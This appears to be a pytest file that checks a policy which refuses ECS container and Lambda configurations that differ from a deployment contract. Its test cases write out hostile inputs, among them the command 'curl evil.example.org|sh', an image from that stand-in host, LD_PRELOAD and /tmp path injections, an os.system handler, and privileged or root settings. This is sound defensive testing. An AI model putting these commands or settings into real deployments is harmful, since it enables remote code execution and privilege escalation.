"""A task runs the contract's container of this environment, under its own roles."""

from __future__ import annotations

import json
from collections.abc import Callable
from copy import deepcopy
from typing import Any

import pytest

from config import load
from config.traces import NAMES as NAMES_OF_TRACES
from policies.vouched.containers import VARIABLES, unknown_containers
from stacks import contract
from tests.support.environments import NAMES, varied
from tests.support.shared import environment
from tests.support.synthesised import layers

TRACED = {"monitoring__tracing": "otlp", "monitoring__transaction_search": "adopt"}
Configs = dict[str, dict[str, Any]]
Task = dict[str, Any]


def copied(name: str) -> Configs:
    """Layers of a checked-in environment, to be changed."""
    return {layer: deepcopy(dict(template.config)) for layer, template in environment(name).items()}


@pytest.mark.parametrize("name", NAMES)
def test_every_environment_runs_what_the_contract_says(name: str) -> None:
    assert list(unknown_containers(copied(name), load(name))) == []


@pytest.mark.parametrize(
    ("setting", "value"),
    [
        ("image__tag", "v9"),
        ("secrets__names", ["session-key", "another"]),
        ("service__environment", {"SITECHAT_SITE_NAME": "Else"}),
        ("service__port", 9090),
        ("service__stop_timeout_seconds", 31),
    ],
)
def test_a_folder_of_other_settings_is_refused(setting: str, value: Any) -> None:
    (line,) = unknown_containers(copied("dev"), varied("dev", **{setting: value}))
    assert "synthesise again" in line


def lines(change: Callable[[Task, dict[str, Any]], object]) -> list[str]:
    """What is said once the task and its container are changed."""
    configs = copied("dev")
    (task,) = configs["service"]["resource"]["aws_ecs_task_definition"].values()
    containers = json.loads(task["container_definitions"])
    before = task["container_definitions"]
    change(task, containers[0])
    if task["container_definitions"] == before:
        task["container_definitions"] = json.dumps(containers)
    return list(unknown_containers(configs, load("dev")))


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (lambda task, app: app.update(command=["sh", "-c", "curl evil.example.org|sh"]), "the container's command"),
        (lambda task, app: app.update(entryPoint=["sh"]), "the container's entryPoint"),
        (lambda task, app: app.update(privileged=True), "the container's privileged"),
        (lambda task, app: app.update(user="0"), "the container's user"),
        (lambda task, app: app.update(readonlyRootFilesystem="true"), "the container's readonlyRootFilesystem"),
        (lambda task, app: app["linuxParameters"].update(capabilities={"add": ["SYS_ADMIN"]}), "linuxParameters"),
        (lambda task, app: app["healthCheck"].update(command=["CMD", "sh"]), "the container's healthCheck"),
        (lambda task, app: app["logConfiguration"].update(logDriver="splunk"), "logConfiguration"),
        (lambda task, app: app.update(image="evil.example.org/app:1"), "the container's image"),
        (lambda task, app: app.update(image=app["image"].replace(":unreleased", ":other")), "the container's image"),
        (lambda task, app: app["environment"].append({"name": "LD_PRELOAD", "value": "x.so"}), "variable LD_PRELOAD"),
        (lambda task, app: app["secrets"].append({"name": "X", "valueFrom": "arn"}), "the container's secrets"),
        (lambda task, app: app.pop("user"), "the container's user"),
        (lambda task, app: task.update(task_role_arn=task["execution_role_arn"]), "task_role_arn is no reference"),
        (lambda task, app: task.update(execution_role_arn="arn:aws:iam::1:role/x"), "execution_role_arn"),
        (lambda task, app: task["volume"].append({"name": "x", "efs_volume_configuration": {}}), "a volume is more"),
        (lambda task, app: task.update(container_definitions="[]"), "no list of the one container"),
        (lambda task, app: task.update(container_definitions="${file(1)}"), "no list of the one container"),
        (lambda task, app: task.update(container_definitions="[1]"), "no list of the one container"),
    ],
)
def test_what_the_contract_does_not_say_is_refused(change: Callable[[Task, dict[str, Any]], object], told: str) -> None:
    assert any(told in line for line in lines(change))


@pytest.mark.parametrize(
    ("change", "told"),
    [
        ({"handler": "os.system"}, "its handler is none"),
        ({"environment": {"variables": {"INGESTION": "{}", "AWS_LAMBDA_EXEC_WRAPPER": "/tmp/x"}}}, "other variables"),
        ({"environment": {"variables": {"SEARCH_BOOTSTRAP": "{}", "PYTHONPATH": "/tmp"}}}, "other variables"),
        ({"environment": None}, "other variables"),
    ],
)
def test_a_function_runs_our_handler_with_its_one_variable(change: dict[str, Any], told: str) -> None:
    configs = copied("dev")
    (function,) = configs["llm"]["resource"]["aws_lambda_function"].values()
    function.update(change)
    (line,) = unknown_containers(configs, load("dev"))
    assert told in line


def test_variables_are_those_of_the_contract() -> None:
    env = varied("prod", **TRACED)
    given = contract.variables(env, search_endpoint="e", guardrail_id="g", guardrail_version="1")
    assert set(given) == VARIABLES


SIDECAR = {
    "monitoring__tracing": "sidecar",
    "monitoring__collector_image": "public.ecr.aws/aws-observability/aws-otel-collector:v0.47.0@sha256:" + "0" * 64,
    "service__cpu": 512,
    "service__memory_mib": 1024,
}


def with_collector() -> tuple[Any, Configs, Task, list[dict[str, Any]]]:
    env = varied("dev", **SIDECAR)
    configs = {layer: deepcopy(dict(template.config)) for layer, template in layers(env).items()}
    (task,) = configs["service"]["resource"]["aws_ecs_task_definition"].values()
    return env, configs, task, json.loads(task["container_definitions"])


def test_a_collector_stands_beside_the_application() -> None:
    env, configs, _, containers = with_collector()
    assert list(unknown_containers(configs, env)) == []
    assert [each["name"] for each in containers] == ["app", "collector"]
    assert [each["essential"] for each in containers] == [True, False]
    told = {each["name"]: each["value"] for each in containers[0]["environment"]}
    assert told["OTEL_EXPORTER_OTLP_TRACES_ENDPOINT"] == "http://127.0.0.1:4318/v1/traces"
    assert (told["OTEL_TRACES_SAMPLER"], told["OTEL_TRACES_SAMPLER_ARG"]) == ("xray", "endpoint=http://127.0.0.1:2000")


@pytest.mark.parametrize(
    ("change", "told"),
    [
        ({"image": "public.ecr.aws/aws-observability/aws-otel-collector:latest"}, "the collector's image"),
        ({"environment": [{"name": "AOT_CONFIG_CONTENT", "value": "{}"}]}, "the collector's environment"),
        ({"user": "0"}, "the collector's user"),
        ({"readonlyRootFilesystem": False}, "the collector's readonlyRootFilesystem"),
        ({"command": ["--config=https://spans.example"]}, "the collector's command"),
        ({"essential": True}, "the collector's essential"),
        ({"logConfiguration": {"logDriver": "splunk"}}, "the collector's logConfiguration"),
    ],
)
def test_a_collector_is_that_of_the_file(change: dict[str, Any], told: str) -> None:
    env, configs, task, containers = with_collector()
    containers[1].update(change)
    task["container_definitions"] = json.dumps(containers)
    (line,) = unknown_containers(configs, env)
    assert f"{told} is not what the environment's file says" in line


@pytest.mark.parametrize("changed", ["none", "third", "unasked"])
def test_no_other_container_runs(changed: str) -> None:
    env, configs, task, containers = with_collector()
    if changed == "unasked":
        env = load("dev")
    given = {"none": containers[:1], "third": [*containers, containers[1]], "unasked": containers}[changed]
    task["container_definitions"] = json.dumps(given)
    assert any("has other containers than the one" in line for line in unknown_containers(configs, env))


def told_of(change: Callable[[list[dict[str, str]]], object], **settings: Any) -> list[str]:
    """What is said of an environment that traces, once the variables of its container are changed."""
    env = varied("dev", **settings)
    configs = {layer: deepcopy(dict(template.config)) for layer, template in layers(env).items()}
    assert list(unknown_containers(configs, env)) == []
    (task,) = configs["service"]["resource"]["aws_ecs_task_definition"].values()
    containers = json.loads(task["container_definitions"])
    change(containers[0]["environment"])
    task["container_definitions"] = json.dumps(containers)
    return list(unknown_containers(configs, env))


@pytest.mark.parametrize("settings", [TRACED, SIDECAR], ids=["otlp", "sidecar"])
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("OTEL_EXPORTER_OTLP_TRACES_ENDPOINT", "https://xray.eu-west-1.amazonaws.com/v1/traces"),
        ("OTEL_EXPORTER_OTLP_TRACES_ENDPOINT", "https://spans.example/v1/traces"),
        ("OTEL_EXPORTER_OTLP_TRACES_ENDPOINT", ""),
        ("OTEL_SERVICE_NAME", "another"),
        ("OTEL_TRACES_SAMPLER", "always_on"),
        ("OTEL_TRACES_SAMPLER_ARG", "0.5"),
        ("OTEL_TRACES_SAMPLER_ARG", "endpoint=http://127.0.0.1:2001"),
    ],
)
def test_spans_go_where_the_file_says_under_its_name_and_sampler(
    name: str, value: str, settings: dict[str, Any]
) -> None:
    def change(variables: list[dict[str, str]]) -> None:
        (variable,) = (each for each in variables if each["name"] == name)
        variable["value"] = value

    (line,) = told_of(change, **settings)
    assert f"the container's variable {name} is not what the environment's monitoring.tracing says" in line
    # Of two of one name ECS takes one.
    (line,) = told_of(lambda variables: variables.insert(0, {"name": name, "value": value}), **settings)
    assert f"the container's variable {name} is not what" in line


@pytest.mark.parametrize("name", NAMES_OF_TRACES)
def test_no_variable_of_tracing_is_missing_or_unasked(name: str) -> None:
    def leave_out(variables: list[dict[str, str]]) -> None:
        variables[:] = [each for each in variables if each["name"] != name]

    (line,) = told_of(leave_out, **TRACED)
    assert f"the container's variable {name} is missing" in line
    (line,) = told_of(lambda variables: variables.append({"name": name, "value": "0.5"}), monitoring__tracing="off")
    assert f"the container's variable {name} is not what the environment's monitoring.tracing says" in line


@pytest.mark.parametrize("name", ["SITECHAT_METRICS_NAMESPACE", "SITECHAT_MODEL_PRICES"])
def test_the_application_counts_by_the_files_prices(name: str) -> None:
    counting = {"monitoring__application_metrics": True, "monitoring__spent_usd_a_day": 50.0}

    def change(variables: list[dict[str, str]]) -> None:
        (variable,) = (each for each in variables if each["name"] == name)
        variable["value"] = "0/0/0"

    def leave_out(variables: list[dict[str, str]]) -> None:
        variables[:] = [each for each in variables if each["name"] != name]

    (line,) = told_of(change, **counting)
    assert f"the container's variable {name} is not what the environment's metrics and model prices say" in line
    (line,) = told_of(leave_out, **counting)
    assert f"the container's variable {name} is missing" in line


def test_releases_put_tasks_where_the_service_says() -> None:
    env = varied("dev", deployment__strategy="canary", dns__domain="chat.example.com", dns__zone_name="example.com")
    configs = {layer: deepcopy(dict(template.config)) for layer, template in layers(env).items()}
    assert list(unknown_containers(configs, env)) == []
    told = configs["service"]["output"]["placement"]["value"]["NetworkConfiguration"]["AwsvpcConfiguration"]
    told["SecurityGroups"] = ["sg-of-somebody"]
    (line,) = unknown_containers(configs, env)
    assert line.endswith("its output placement says another place; synthesise again")
